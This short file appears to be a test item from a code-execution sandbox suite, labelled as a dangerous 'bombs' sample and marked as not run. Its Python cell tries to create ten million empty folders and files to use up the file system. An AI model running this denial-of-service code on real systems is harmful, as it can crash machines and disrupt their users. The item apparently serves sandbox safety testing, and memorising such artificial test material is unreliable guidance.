# intent: millions of empty files and folders use up the file system
# family: bombs
# danger: yes
# stock: not run: it would take this machine down
# limits: cell_seconds=4 submission_seconds=20

# %%
import os

for number in range(10_000_000):
    try:
        os.mkdir(f"__MARK__-{number}")
        open(f"/tmp/__MARK__-{number}", "w").close()
    except OSError:
        break
